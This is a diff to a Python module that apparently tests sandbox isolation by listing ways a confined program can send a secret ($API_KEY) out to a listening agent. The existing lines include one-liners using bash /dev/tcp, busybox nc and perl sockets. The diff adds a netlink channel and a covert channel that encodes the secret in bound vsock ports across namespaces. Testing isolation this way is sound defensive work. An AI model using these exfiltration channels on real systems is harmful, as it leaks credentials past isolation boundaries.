@@ -1,7 +1,9 @@
 """A program sends the value away; the agent listens outside."""
 
+import errno
 import os
 import socket
+import threading
 
 from .technique import Technique
 
@@ -59,6 +61,84 @@ called("curl-proxy", "`curl` with a proxy of the agent's", lambda port: ["/usr/b
 called("bash", "bash's /dev/tcp", lambda port: ["/bin/bash", "-c", f'echo "$API_KEY" >/dev/tcp/127.0.0.1/{port}'])
 called("busybox", "`busybox nc`", lambda port: ["busybox", "nc", "127.0.0.1", str(port)], ("busybox",), as_input=True)
 called("perl", "perl's sockets", lambda port: ["/usr/bin/perl", "-MIO::Socket::INET", "-e", f"IO::Socket::INET->new('127.0.0.1:{port}')->print($ENV{{API_KEY}})"], ("perl",))
+
+
+def netlink(place):
+    """To a socket of the agent's, through the kernel's own switchboard: NETLINK_USERSOCK, to which everybody may send."""
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 2) as ear:
+        ear.bind((0, 0))
+        ear.setblocking(False)
+        seen = place.python(f"import socket\ns = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 2)\ns.sendto(v, ({ear.getsockname()[0]}, 0))")
+        try:
+            return ear.recv(4096) + seen.output
+        except BlockingIOError:
+            return seen.output
+
+
+Technique(G, "netlink", "over a netlink socket", netlink, ("AF_NETLINK",))
+
+# The ports of virtual sockets are no namespace's: who may have such a socket finds out which of them are taken anywhere on the machine.
+TAKING = """import socket
+held = []
+def taken(port):
+    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
+    try:
+        s.bind((socket.VMADDR_CID_ANY, port))
+    except OSError:
+        return True
+    held.append(s)
+for at, b in enumerate(v[-32:]):
+    taken(FIRST + 16 * at + b'0123456789abcdef'.index(b))
+end = time.monotonic() + 20
+while not taken(ANSWER) and time.monotonic() < end:
+    held.pop().close()
+"""
+
+
+class Ports:
+    """A run of the vsock's ports that is free, one of which tells the program that the others were read."""
+
+    def __init__(self):
+        self.first, self.found = 0x7AC10000 + os.getpid() % 4096 * 1024, {}
+        self.answer, self.answering = self.first + 1023, socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
+        self.is_over = threading.Event()
+
+    def look(self):
+        """Looks until a digit is found at every place, or the program has ended."""
+        while len(self.found) < 32 and not self.is_over.is_set():
+            for at in range(32):
+                for digit in range(16):
+                    if self.is_taken(self.first + 16 * at + digit):
+                        self.found[at] = digit
+        # The program asks for it all the time, and then has it for a moment.
+        while not self.is_over.is_set():
+            try:
+                return self.answering.bind((socket.VMADDR_CID_ANY, self.answer))
+            except OSError:
+                continue
+
+    @staticmethod
+    def is_taken(port):
+        with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as probe:
+            try:
+                probe.bind((socket.VMADDR_CID_ANY, port))
+            except OSError as error:
+                return error.errno == errno.EADDRINUSE
+        return False
+
+
+def vsock(place):
+    ports = Ports()
+    looking = threading.Thread(target=ports.look)
+    looking.start()
+    seen = place.python(TAKING.replace("FIRST", str(ports.first)).replace("ANSWER", str(ports.answer)))
+    ports.is_over.set()
+    looking.join()
+    ports.answering.close()
+    return bytes(b"0123456789abcdef"[ports.found[at]] for at in sorted(ports.found)) + seen.output
+
+
+Technique(G, "vsock", "as the ports of a virtual machine's sockets that the program takes, which no namespace parts", vsock, ("AF_VSOCK",))
 
 
 def fresh(path):
